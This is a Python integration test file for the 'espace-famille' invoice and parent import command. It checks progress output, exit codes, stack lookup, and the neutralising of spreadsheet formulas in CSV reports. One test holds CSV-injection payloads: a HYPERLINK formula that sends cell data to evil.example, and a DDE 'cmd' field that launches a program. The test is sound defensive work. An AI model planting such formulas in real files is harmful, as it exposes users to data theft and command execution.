"""`espace-famille import FILE --stack local|<name>`: the ops command, run as operations run it (a process)."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from espace_famille.model import invoice_id
from tests.import_support import csv_text, invoice, parents, unique_id
from tests.support import ROOT

pytestmark = pytest.mark.integration

COMMAND = Path(sys.executable).with_name("espace-famille")


@pytest.fixture
def state_file(stack, tmp_path) -> Path:
    """What `make run` writes in .local/stack.json, for the stack of the tests."""
    path = tmp_path / "stack.json"
    path.write_text(json.dumps(stack.info()), encoding="utf-8")
    return path


def cli(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [str(COMMAND), *args],
        capture_output=True,
        text=True,
        cwd=ROOT,
        env={**os.environ, **(env or {})},
        timeout=300,
        check=False,
    )


def write(tmp_path: Path, name: str, text: str, encoding: str = "utf-8") -> Path:
    path = tmp_path / name
    path.write_bytes(text.encode(encoding))
    return path


def counts(read=0, created=0, updated=0, unchanged=0, rejected=0) -> dict[str, int]:
    return {"read": read, "created": created, "updated": updated, "unchanged": unchanged, "rejected": rejected}


def report_of(done: subprocess.CompletedProcess[str]) -> dict[str, Any]:
    return dict(json.loads(done.stdout))


def test_import_into_the_local_stack_with_a_progress_bar(stack, state_file, tmp_path):
    cid = unique_id("K")
    done = cli("import", str(write(tmp_path, "parents.jsonl", parents(cid))), "--state-file", str(state_file))
    assert done.returncode == 0, done.stderr
    assert report_of(done)["counts"] == counts(read=3, created=3)

    rows = [invoice(cid, f"CLI-{n:04d}", debtor_id=f"D{n % 7}", debtor_name="Mme DUPRÉ Hélène") for n in range(500)]
    path = write(tmp_path, "factures.csv", csv_text(rows), "cp1252")
    done = cli("import", str(path), "--stack", "local", "--state-file", str(state_file))
    assert done.returncode == 0, done.stderr
    report = report_of(done)
    assert (report["status"], report["encoding"], report["counts"]) == (
        "done",
        "windows-1252",
        counts(read=500, created=500),
    )
    # The bar ends full; the summary follows in French.
    assert "[" + "#" * 30 + "] 100.0 %" in done.stderr
    assert "500 lignes" in done.stderr
    assert "lues 500, créées 500, mises à jour 0, inchangées 0, rejetées 0" in done.stderr
    # The same data as the portal reads it: the table of the running stack.
    item = stack.aws.client("dynamodb").get_item(
        TableName=stack.info()["tables"]["Table"],
        Key={"PK": {"S": f"INV#{invoice_id(cid, 'CLI-0042')}"}, "SK": {"S": "INV"}},
    )
    assert item["Item"]["debtor_id"] == {"S": "D0"}

    again = cli("import", str(path), "--state-file", str(state_file), "--no-progress")
    assert again.returncode == 0
    assert report_of(again)["counts"] == counts(read=500, unchanged=500)
    assert "#" not in again.stderr


def test_rejected_rows_and_rejected_files_set_the_exit_code(stack, state_file, tmp_path):
    cid = unique_id("K")
    cli("import", str(write(tmp_path, "parents.jsonl", parents(cid))), "--state-file", str(state_file))
    secret = "CLI-SECRET-KEY-77"
    path = write(
        tmp_path,
        "factures.csv",
        csv_text([invoice(cid, "R-1", key=secret), invoice(cid, "R-2", amount="0", key=secret)]),
    )
    done = cli("import", str(path), "--state-file", str(state_file))
    assert done.returncode == 1
    assert report_of(done)["errors"] == [
        {"line": 3, "kind": "invoice", "field": "amount", "reason": "le montant doit être supérieur à zéro"}
    ]
    assert "ligne 3, amount : le montant doit être supérieur à zéro" in done.stderr
    assert secret not in done.stdout + done.stderr

    bad = write(tmp_path, "factures-virgules.csv", csv_text([invoice(cid, "R-3")]).replace(";", ","))
    done = cli("import", str(bad), "--state-file", str(state_file))
    assert done.returncode == 2
    report = report_of(done)
    assert (report["status"], report["file_error"], report["counts"]) == (
        "rejected",
        "séparateur incorrect : les colonnes doivent être séparées par « ; »",
        counts(),
    )
    assert "refusé, rien n’a été importé" in done.stderr


def test_text_that_opens_as_a_formula_is_stored_as_given_and_neutralised_in_the_csv_report(stack, state_file, tmp_path):
    cid = unique_id("K")
    cli("import", str(write(tmp_path, "parents.jsonl", parents(cid))), "--state-file", str(state_file))
    formula = '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")'
    field = "=cmd|' /C calc'!A0"
    rows = [
        {"kind": "invoice", **invoice(cid, "F-1", debtor_name=formula, paid_at=None)},
        {"kind": "invoice", **invoice(cid, "F-2", debtor_name="-Mme +X @Y", paid_at=None), field: "1"},
    ]
    path = write(tmp_path, "formules.jsonl", "".join(json.dumps(r) + "\n" for r in rows))
    out = tmp_path / "rapport.csv"
    done = cli("import", str(path), "--state-file", str(state_file), "--no-progress", "--csv", str(out))
    assert done.returncode == 1, done.stderr
    item = stack.aws.client("dynamodb").get_item(
        TableName=stack.info()["tables"]["Table"],
        Key={"PK": {"S": f"INV#{invoice_id(cid, 'F-1')}"}, "SK": {"S": "INV"}},
    )
    assert item["Item"]["debtor_name"] == {"S": formula}  # stored as given
    assert report_of(done)["errors"][0]["field"] == field  # the JSON report too
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    back = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert back == [
        ["ligne", "niveau", "type", "champ", "raison"],
        ["2", "erreur", "invoice", "'" + field, "champ inconnu"],
    ]


def test_a_deployed_stack_is_found_by_its_name(stack, tmp_path):
    """The stack's table is read from its CloudFormation outputs (here moto's CloudFormation)."""
    info = stack.info()
    cloudformation = stack.aws.client("cloudformation")
    name = f"espace-famille-{unique_id('').lower()}"
    template = {
        "Parameters": {"Table": {"Type": "String"}},
        "Resources": {"Topic": {"Type": "AWS::SNS::Topic"}},
        "Outputs": {"TableName": {"Value": {"Ref": "Table"}}},
    }
    cloudformation.create_stack(
        StackName=name,
        TemplateBody=json.dumps(template),
        Parameters=[{"ParameterKey": "Table", "ParameterValue": info["tables"]["Table"]}],
    )
    aws = {
        "AWS_ENDPOINT_URL": info["aws_endpoint_url"],
        "AWS_DEFAULT_REGION": info["region"],
        "AWS_ACCESS_KEY_ID": "local",
        "AWS_SECRET_ACCESS_KEY": "local",
    }
    cid = unique_id("K")
    done = cli("import", str(write(tmp_path, "parents.jsonl", parents(cid))), "--stack", name, env=aws)
    assert done.returncode == 0, done.stderr
    assert report_of(done)["counts"] == counts(read=3, created=3)

    missing = cli("import", str(tmp_path / "parents.jsonl"), "--stack", "pas-de-pile", env=aws)
    assert missing.returncode == 3
    assert "pile « pas-de-pile » introuvable ou inaccessible" in missing.stderr


def test_without_a_running_local_stack(tmp_path):
    done = cli("import", str(write(tmp_path, "x.jsonl", "{}\n")), "--state-file", str(tmp_path / "absent.json"))
    assert done.returncode == 3
    assert "pas de pile locale en cours" in done.stderr
    assert "la lancer avec « make run »" in done.stderr
